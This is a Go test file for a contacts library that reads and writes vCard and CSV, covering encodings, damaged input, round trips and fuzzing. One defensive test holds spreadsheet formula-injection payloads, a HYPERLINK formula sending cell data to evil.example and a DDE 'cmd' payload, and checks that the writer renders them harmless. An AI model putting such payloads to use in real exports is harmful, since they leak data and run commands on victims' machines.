package phonebook

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"
)

var update = flag.Bool("update", false, "write the golden files anew")

// inputs are files as phones, Google and Outlook write them, and damaged ones.
func inputs(t testing.TB) (out []string) {
	t.Helper()
	for _, pattern := range []string{"testdata/*.vcf", "testdata/*.csv"} {
		files, err := filepath.Glob(pattern)
		require.NoError(t, err)
		out = append(out, files...)
	}
	require.Len(t, out, 7)
	return out
}

// What is read of each file, and every problem with its line.
func TestRead_Golden(t *testing.T) {
	for _, name := range inputs(t) {
		b, err := os.ReadFile(name)
		require.NoError(t, err)
		contacts, problems, format, err := Read(bytes.NewReader(b))
		require.NoError(t, err, name)
		assert.Equal(t, map[string]Format{".vcf": FormatVCard, ".csv": FormatCSV}[filepath.Ext(name)], format)
		var got bytes.Buffer
		enc := json.NewEncoder(&got)
		enc.SetIndent("", "  ")
		require.NoError(t, enc.Encode(contacts))
		for _, p := range problems {
			got.WriteString(p.String() + "\n")
		}
		golden := name + ".golden"
		if *update {
			require.NoError(t, os.WriteFile(golden, got.Bytes(), 0o600))
		}
		want, err := os.ReadFile(golden)
		require.NoError(t, err)
		assert.Equal(t, string(want), got.String(), name)

		// The ends of lines, how a reader cuts the text, and the encoding do not matter.
		crlf := strings.ReplaceAll(strings.ReplaceAll(string(b), "\r\n", "\n"), "\n", "\r\n")
		for i, r := range []*bytes.Reader{bytes.NewReader([]byte(crlf)), bytes.NewReader(utf16le(crlf))} {
			again, more, _, err := Read(iotest.OneByteReader(r))
			require.NoError(t, err)
			assert.Equal(t, contacts, again, "%s %d", name, i)
			assert.Equal(t, problems, more, "%s %d", name, i)
		}
	}
}

func utf16le(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, r := range strings.TrimPrefix(s, bom) {
		out = append(out, byte(r), byte(r>>8)) // none above U+FFFF in the files
	}
	return out
}

func TestRead_WhatCannotBeRead(t *testing.T) {
	broken := errors.New("unplugged")
	_, _, _, err := Read(iotest.ErrReader(broken))
	assert.ErrorIs(t, err, broken)
	for _, head := range []string{"BEGIN:VCARD\nFN:a\nTEL:1\n", "Name,Number 1\na,1\n"} {
		contacts, _, _, err := Read(iotest.TimeoutReader(iotest.OneByteReader(strings.NewReader(head))))
		assert.ErrorIs(t, err, iotest.ErrTimeout)
		assert.Empty(t, contacts)
		contacts, _, _, err = Read(&half{text: strings.NewReader(head), err: broken})
		assert.ErrorIs(t, err, broken)
		assert.Len(t, contacts, 1, "what came before is returned")
	}
	var he *HeaderError
	for _, text := range []string{"a,b\n1,2\n", "\xb1\xe8,\xb9\xce\n", "\"", "kim,010-1234-5678\n", "Number 1\n1\n"} {
		_, _, err := ReadCSV(strings.NewReader(text))
		assert.ErrorAs(t, err, &he, text)
		assert.ErrorContains(t, err, "UTF-8")
	}
	for _, empty := range []string{"", bom, "\n\n", "Name,Number 1\n"} {
		contacts, problems, _, err := Read(strings.NewReader(empty))
		assert.NoError(t, err)
		assert.Empty(t, contacts)
		assert.Empty(t, problems)
	}
}

// half is a reader that fails at the end of the text.
type half struct {
	text *strings.Reader
	err  error
}

func (h *half) Read(p []byte) (int, error) {
	if h.text.Len() == 0 {
		return 0, h.err
	}
	return h.text.Read(p)
}

func TestRead_DamageCostsOneContact(t *testing.T) {
	long := strings.Repeat("x", maxLine)
	for _, c := range []struct {
		text     string
		names    []string
		problems []string
	}{
		{"Name,Number 1\n김,1\n\xb1\xe8,2\n박,3\n", []string{"김", "박"}, []string{"line 3: skipped: the row is not UTF-8; save the file as UTF-8 (in spreadsheets: CSV UTF-8)"}},
		{"Name,Number 1\na\"b,1\n박,3\n", []string{"박"}, []string{`line 2: skipped: the row is not CSV: bare " in non-quoted-field`}},
		{"Name,Number 1\n" + strings.Repeat("n", 600) + ",1\n,\n\n박,3\n", []string{"박"},
			[]string{`line 2: skipped: contact "` + strings.Repeat("n", 600) + `" is refused: its name is longer than 512 bytes`}},
		{"Name,Token\na,t\nb,t\n", []string{"a", "b"}, []string{`line 3: changed: contact "b" has the token or UID of the one in line 2; it is kept as another contact`}},
		{"BEGIN:VCARD\nFN:\xb1\xe8\nEND:VCARD\nBEGIN:VCARD\nFN:박\nEND:VCARD\n", []string{"박"},
			[]string{"line 1: skipped: the contact is refused: it has no name; give it one", "line 2: dropped: FN is not UTF-8; export the contacts as UTF-8"}},
		{"BEGIN:VCARD\nVERSION:5\nFN:a\nNOTE:" + long + "\n y\nREV:x\nBEGIN:VCARD\nFN:b\nEND:VCARD", []string{"a", "b"},
			[]string{
				`line 2: changed: a card of version "5" is read as one of 4.0`, "line 4: dropped: NOTE is longer than 1024 KiB and is not kept",
				"line 6: dropped: REV is no time that can be read", "line 7: changed: the card that begins in line 1 has no END:VCARD; what was there is kept",
			}},
	} {
		contacts, problems, _, err := Read(strings.NewReader(c.text))
		require.NoError(t, err)
		var names, texts []string
		for _, c := range contacts {
			names = append(names, c.Name)
		}
		for _, p := range problems {
			texts = append(texts, p.String())
		}
		assert.Equal(t, c.names, names)
		assert.Equal(t, c.problems, texts)
	}
}

func TestRead_ProblemsAreBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("BEGIN:VCARD\nFN:a\n")
	for i := range maxProblems + 500 {
		b.WriteString("X-" + strings.Repeat("A", i%7+1) + string(rune('A'+i%26)) + strings.Repeat("Z", i/26%500) + ":1\n")
	}
	b.WriteString("END:VCARD\n")
	_, problems, err := ReadVCard(strings.NewReader(b.String()))
	require.NoError(t, err)
	assert.LessOrEqual(t, len(problems), maxProblems+1)
	lost := 0
	for _, p := range problems {
		lost += p.Count
	}
	assert.Equal(t, maxProblems+500, lost, "each is counted")
}

func TestCSV_RoundTrip(t *testing.T) {
	c := full()
	c.Updated = c.Updated.Truncate(0)
	want := c
	want.Updated = Contact{}.Updated
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, []Contact{c, {Name: "a"}}))
	assert.True(t, strings.HasPrefix(buf.String(), bom+"Name,Number 1,Label 1,Label Text 1,Number 2"))
	got, problems, format, err := Read(&buf)
	require.NoError(t, err)
	assert.Equal(t, FormatCSV, format)
	assert.Empty(t, problems)
	assert.Equal(t, []Contact{want, {Name: "a"}}, got)
}

// What a spreadsheet would run as a formula is text to it, and comes back; a
// telephone number stays one to every program.
func TestCSV_FormulasAreText(t *testing.T) {
	given := []Contact{
		{
			Name: `=HYPERLINK("http://evil.example?"&B2,"click")`, Category: "@SUM(1)", Road: "-1+cmd|' /C calc'!A0", POI: "'=1",
			Entries: []Entry{{Label: Mobile, Number: "+82 10-1234-5678"}, {Label: UserDefined, Text: "+shop", Number: "+1 (212) 555-1234"}},
			Hours:   Hours{Info: "+9 to 5"},
		},
		{Name: "'t Hooft", Entries: []Entry{{Number: "+82;ext=5"}}},
	}
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, given))
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), bom))).ReadAll()
	require.NoError(t, err)
	var phones []string
	for _, cell := range slices.Concat(rows[1:]...) {
		if cell == "" || !strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
			continue
		}
		phones = append(phones, cell)
	}
	assert.Equal(t, []string{"+82 10-1234-5678", "+1 (212) 555-1234"}, phones)
	got, problems, err := ReadCSV(&buf)
	require.NoError(t, err)
	assert.Empty(t, problems)
	for i := range given {
		require.NoError(t, given[i].clean())
	}
	assert.Equal(t, given, got)
}

// Korean Excel writes "CSV (comma delimited)" in CP949.
func TestCSV_KoreanExcel(t *testing.T) {
	const text = "\xc0\xcc\xb8\xa7,\xc8\xde\xb4\xeb\xc6\xf9\r\n\xb1\xe8\xb9\xce\xbc\xf6,+82 10-1234-5678\r\n"
	got, problems, format, err := Read(strings.NewReader(text))
	require.NoError(t, err)
	assert.Equal(t, FormatCSV, format)
	require.Len(t, problems, 1)
	assert.Equal(t, Changed, problems[0].Kind)
	assert.Contains(t, problems[0].Text, "CP949")
	assert.Equal(t, []Contact{{Name: "김민수", Entries: []Entry{{Label: Mobile, Number: "+82 10-1234-5678"}}}}, got)
}

// Whatever a contact holds comes back from either format.
func TestWrite_RoundTripOfAnything(t *testing.T) {
	b, _ := newBook(t)
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.StringMatching(`[ -~가-힣ㄱ-ㅎé、😀\n;,\\":]{0,12}`)
		entry := rapid.Custom(func(t *rapid.T) Entry {
			return Entry{
				Label: Label(rapid.IntRange(int(NoLabel), int(UserDefined)).Draw(t, "label")), Text: text.Draw(t, "text"),
				Number: "0" + text.Draw(t, "number"),
			}
		})
		given := rapid.SliceOfN(rapid.Custom(func(t *rapid.T) Contact {
			return Contact{
				Name: "n" + text.Draw(t, "name"), Entries: rapid.SliceOfN(entry, 0, 4).Draw(t, "entries"), ImageURL: "x:" + text.Draw(t, "image"),
				Category: text.Draw(t, "category"), Road: text.Draw(t, "road"), Jibun: text.Draw(t, "jibun"), POI: text.Draw(t, "poi"),
				Hours: Hours{Open: text.Draw(t, "open"), Close: text.Draw(t, "close"), Info: text.Draw(t, "info")},
				Token: rapid.StringMatching(`[0-9a-f]{40}`).Draw(t, "token"),
			}
		}), 1, 5).Draw(t, "contacts")
		for i := range given {
			if err := given[i].normalise(b.plan); err != nil {
				t.Fatal(err)
			}
		}
		write := map[string]func(*bytes.Buffer) error{
			"3.0": func(w *bytes.Buffer) error { return WriteVCard(w, given, VCard3) },
			"4.0": func(w *bytes.Buffer) error { return WriteVCard(w, given, VCard4) },
			"csv": func(w *bytes.Buffer) error { return WriteCSV(w, given) },
		}
		for name, f := range write {
			var buf bytes.Buffer
			if err := f(&buf); err != nil {
				t.Fatal(err)
			}
			got, problems, _, err := Read(&buf)
			if err != nil || len(problems) > 0 || len(got) != len(given) {
				t.Fatalf("%s: %v %v", name, err, problems)
			}
			for i := range got {
				if err := got[i].normalise(b.plan); err != nil {
					t.Fatal(err)
				}
				want := given[i].clone()
				if len(want.Entries) == 0 {
					want.Entries, got[i].Entries = nil, nil
				}
				if !assert.ObjectsAreEqual(want, got[i]) {
					t.Fatalf("%s: %+v became %+v", name, want, got[i])
				}
			}
		}
	})
}

func FuzzReadVCard(f *testing.F) {
	fuzzSeeds(f, ".vcf")
	f.Add([]byte("BEGIN:VCARD\nTEL;TYPE=\"a:b\":1\nitem1.X-ABLabel:\nEND:VCARD"))
	f.Fuzz(func(t *testing.T, b []byte) { checkRead(t, b, ReadVCard) })
}

func FuzzReadCSV(f *testing.F) {
	fuzzSeeds(f, ".csv")
	f.Add([]byte("Name,Number 1\na,\"\n"))
	f.Add([]byte("\xc0\xcc\xb8\xa7,\xc8\xde\xb4\xeb\xc6\xf9\n\xb1\xe8,'+1;=2\n"))
	f.Fuzz(func(t *testing.T, b []byte) { checkRead(t, b, ReadCSV) })
}

func fuzzSeeds(f *testing.F, ext string) {
	for _, name := range inputs(f) {
		if filepath.Ext(name) != ext {
			continue
		}
		b, err := os.ReadFile(name)
		require.NoError(f, err)
		f.Add(b)
	}
}

// checkRead holds that what is read can be kept, and written and read again
// without a problem.
func checkRead(t *testing.T, b []byte, read func(io.Reader) ([]Contact, []Problem, error)) {
	contacts, problems, err := read(bytes.NewReader(b))
	if err != nil {
		return
	}
	for _, p := range problems {
		if p.Line < 1 || p.Count < 1 || p.Kind.String() == "" || p.Text == "" {
			t.Fatalf("%+v", p)
		}
	}
	var buf bytes.Buffer
	if err := WriteVCard(&buf, contacts, VCard4); err != nil {
		t.Fatal(err)
	}
	again, problems, err := ReadVCard(&buf)
	if err != nil || len(problems) > 0 || len(again) != len(contacts) {
		t.Fatalf("%v %v %+v %+v", err, problems, contacts, again)
	}
	for i := range contacts {
		if !assert.ObjectsAreEqual(contacts[i], again[i]) {
			t.Fatalf("%+v became %+v", contacts[i], again[i])
		}
	}
}
